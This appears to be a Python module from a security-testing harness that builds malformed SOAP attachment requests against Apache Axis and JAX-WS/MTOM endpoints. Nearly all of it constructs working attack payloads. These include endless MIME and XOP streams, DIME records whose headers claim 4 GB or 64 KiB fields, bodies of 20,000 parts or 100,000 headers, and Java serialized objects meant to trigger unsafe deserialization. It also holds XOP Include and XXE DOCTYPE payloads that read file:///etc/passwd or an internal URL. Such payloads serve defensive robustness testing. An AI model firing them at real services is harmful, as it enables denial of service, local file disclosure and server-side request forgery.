"""Messages with attachments that are meant to harm, by name."""

from __future__ import annotations

import struct
from collections.abc import Iterator

import envelopes
from envelopes import ENDLESS, MIB, echo, envelope, hello, matrix
from wire import Request, whole

PATH = "/axis/services/MatrixAttachment"
HELLO = "/axis/services/Hello"
BOUNDARY = "of-no-part"
RELATED = f'multipart/related; type="text/xml"; start="<soap>"; boundary="{BOUNDARY}"'
BARE = f'multipart/related; type="text/xml"; boundary="{BOUNDARY}"'
XOP = (
    'multipart/related; type="application/xop+xml"; start="<soap>"; start-info="text/xml"; '
    f'boundary="{BOUNDARY}"'
)
DIME = "application/dime"
ASKS = envelope(matrix("", ' href="cid:a"'))
ASKS_IN_VAIN = envelope(matrix("", ' href="cid:nowhere"'))


def part(
    identity: str, content: bytes, kind: str = "application/octet-stream", more: str = ""
) -> bytes:
    head = f"--{BOUNDARY}\r\nContent-Type: {kind}\r\nContent-ID: <{identity}>\r\n{more}\r\n"
    return head.encode() + content + b"\r\n"


def two_boundaries(kind: str) -> str:
    """The type with a boundary before its own: SOAP stacks read the last one."""
    return kind.replace("; boundary", '; boundary="another"; boundary')


def root(content: bytes) -> bytes:
    return part("soap", content, "text/xml; charset=utf-8")


END = f"--{BOUNDARY}--\r\n".encode()


def record(
    content: bytes,
    flags: int,
    *,
    identity: bytes = b"a",
    kind: bytes = b"application/octet-stream",
    name_format: int = 1,
    length: int | None = None,
    options: int = 0,
    identity_length: int | None = None,
    version: int = 1,
) -> bytes:
    """A DIME record, whose header may lie."""
    head = struct.pack(
        ">BBHHHI",
        version << 3 | flags,
        name_format << 4,
        options,
        len(identity) if identity_length is None else identity_length,
        len(kind),
        len(content) if length is None else length,
    )
    return head + b"".join(field + b"\0" * (-len(field) % 4) for field in (identity, kind, content))


def soap_record(content: bytes, flags: int = 4) -> bytes:
    return record(
        content,
        flags,
        identity=b"soap",
        kind=b"http://schemas.xmlsoap.org/soap/envelope/",
        name_format=2,
    )


def _endless(start: bytes, again: bytes) -> Iterator[bytes]:
    yield start
    for _ in range(ENDLESS // len(again)):
        yield again


def axis(_: str) -> dict[str, Request]:
    """Against Axis's attachments."""
    big = b"x" * 64 * 1024
    many = b"".join(part(f"p{k}", b"x") for k in range(20_000))
    mime = {
        "MIME without end": Request(PATH, _endless(root(ASKS) + part("a", b"")[:-2], big), RELATED),
        "MIME parts without end": Request(
            PATH, _endless(root(ASKS_IN_VAIN), part("b", big)), RELATED
        ),
        "MIME cut short": whole(PATH, root(ASKS) + part("a", big)[:-500], content_type=RELATED),
        "MIME without boundary": whole(PATH, root(ASKS) + END, content_type="multipart/related"),
        "MIME with an empty boundary": whole(
            PATH, root(ASKS) + END, content_type='multipart/related; boundary=""'
        ),
        "MIME with a boundary of 8 KiB": whole(
            PATH, root(ASKS) + END, content_type=f'multipart/related; boundary="{"b" * 8000}"'
        ),
        "MIME with two boundaries": whole(
            PATH, root(ASKS_IN_VAIN) + many + END, content_type=two_boundaries(RELATED)
        ),
        "MIME with another boundary": whole(PATH, big * 16, content_type=RELATED),
        "MIME, 20 000 parts": whole(PATH, root(ASKS_IN_VAIN) + many + END, content_type=RELATED),
        "MIME, 20 000 parts before the root": whole(
            PATH, many + root(ASKS_IN_VAIN) + END, content_type=RELATED
        ),
        "MIME without the root": whole(PATH, part("b", big) * 50 + END, content_type=RELATED),
        "MIME, 100 000 headers": whole(
            PATH,
            root(ASKS)
            + part("a", b"x", more="".join(f"X{k}: x\r\n" for k in range(100_000)))
            + END,
            content_type=RELATED,
        ),
        "MIME, a header of 4 MiB": whole(
            PATH,
            root(ASKS) + part("a", b"x", more=f"X: {'x' * 4 * MIB}\r\n") + END,
            content_type=RELATED,
        ),
        "MIME in uuencode": whole(
            PATH,
            root(ASKS) + part("a", big, more="Content-Transfer-Encoding: uuencode\r\n") + END,
            content_type=RELATED,
        ),
        "MIME in base64 that is none": whole(
            PATH,
            root(ASKS)
            + part("a", b"\xff" * MIB, more="Content-Transfer-Encoding: base64\r\n")
            + END,
            content_type=RELATED,
        ),
        "MIME nested": whole(
            PATH, root(ASKS) + part("a", root(ASKS) * 1000, kind=BARE) + END, content_type=RELATED
        ),
        "attachments that nobody wants": whole(
            HELLO,
            root(envelope(hello("x"))) + part("b", big) * 100 + END,
            content_type=RELATED,
        ),
        "a class that must not be loaded": whole(
            PATH,
            root(ASKS)
            + part(
                "a",
                bytes.fromhex("aced0005737200116a6176612e7574696c2e486173684d6170") + b"\0" * 40,
            )
            + END,
            content_type=RELATED,
        ),
        "a matrix that lies": whole(
            PATH,
            root(ASKS)
            + part(
                "a",
                bytes.fromhex("aced0005757200035b5b4677aa8d1669fe197602000078707fffffff"),
            )
            + END,
            content_type=RELATED,
        ),
    }
    dime = {
        "DIME that promises 4 GB": soap_record(ASKS) + record(b"x", 2, length=0xFFFFFFFF),
        "DIME whose envelope promises 4 GB": record(
            ASKS,
            6,
            identity=b"s",
            kind=b"http://schemas.xmlsoap.org/soap/envelope/",
            name_format=2,
            length=0xFFFFFFFF,
        ),
        "DIME with options of 64 KiB": soap_record(ASKS) + record(b"x", 2, options=0xFFFF),
        "DIME with a name of 64 KiB": soap_record(ASKS) + record(b"x", 2, identity_length=0xFFFF),
        "DIME of version 31": soap_record(ASKS) + record(b"x", 2, version=31),
        "DIME cut short": (soap_record(ASKS) + record(big, 2))[:-3000],
        "DIME, a header cut short": soap_record(ASKS) + record(b"x", 2)[:7],
        "DIME in empty chunks": soap_record(ASKS)
        + record(b"", 1)
        + record(b"", 1, identity=b"", kind=b"", name_format=0) * 100_000
        + record(b"", 2, identity=b"", kind=b"", name_format=0),
        "DIME, chunks without the last": soap_record(ASKS)
        + record(b"x" * 100, 1)
        + record(b"x", 1) * 1000,
        "DIME, 20 000 records": soap_record(ASKS_IN_VAIN)
        + b"".join(record(b"x", 0, identity=b"%d" % k) for k in range(20_000))
        + record(b"x", 2),
        "DIME without the first flag": record(ASKS, 0) + record(b"x", 0),
        "DIME of zeros": b"\0" * MIB,
        "DIME of ones": b"\xff" * MIB,
    }
    return mime | {name: whole(PATH, body, content_type=DIME) for name, body in dime.items()}


def jaxws(address: str) -> dict[str, Request]:
    """Against the endpoint with MTOM."""
    path = "/mtom/mtom"
    big = b"x" * 64 * 1024

    def include(href: str) -> bytes:
        return envelope(
            echo(f'<x:Include xmlns:x="http://www.w3.org/2004/08/xop/include" href="{href}"/>')
        )

    def xop(content: bytes) -> bytes:
        return part("soap", content, 'application/xop+xml; charset=utf-8; type="text/xml"')

    many = b"".join(part(f"p{k}", b"x") for k in range(20_000))
    bodies = {
        "XOP of a file": xop(include("file:///etc/passwd")) + END,
        "XOP of a page": xop(include(f"http://{address}:8080/axis/byte")) + END,
        "XOP of nothing": xop(include("cid:nowhere")) + END,
        "XOP of the envelope itself": xop(include("cid:soap")) + END,
        "XOP cut short": xop(include("cid:a")) + part("a", big)[:-100],
        "XOP, 20 000 parts": xop(include("cid:nowhere")) + many + END,
        "XOP, 20 000 parts before the root": many + xop(include("cid:nowhere")) + END,
        "XOP with a DOCTYPE": xop(
            b'<!DOCTYPE e [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
            + envelope(echo("&x;")).partition(b"?>")[2]
        )
        + END,
        "XOP with another boundary": big * 16,
        "XOP, a header of 4 MiB": xop(include("cid:a"))
        + part("a", b"x", more=f"X: {'x' * 4 * MIB}\r\n")
        + END,
        "XOP of attachments that nobody wants": xop(envelope(echo("eA==")))
        + part("b", big) * 100
        + END,
    }
    found = {name: whole(path, body, content_type=XOP) for name, body in bodies.items()}
    found["XOP without end"] = Request(
        path, _endless(xop(include("cid:a")) + part("a", b"")[:-2], big), XOP
    )
    found["XOP parts without end"] = Request(
        path, _endless(xop(include("cid:nowhere")), part("b", big)), XOP
    )
    found["XOP with two boundaries"] = whole(
        path, xop(include("cid:nowhere")) + many + END, content_type=two_boundaries(XOP)
    )
    found["XOP without boundary"] = whole(
        path, xop(include("cid:a")) + END, content_type="multipart/related"
    )
    return found


FAMILIES = {
    "axis-envelopes": envelopes.axis,
    "axis-parts": axis,
    "jaxws-envelopes": envelopes.jaxws,
    "jaxws-parts": jaxws,
}
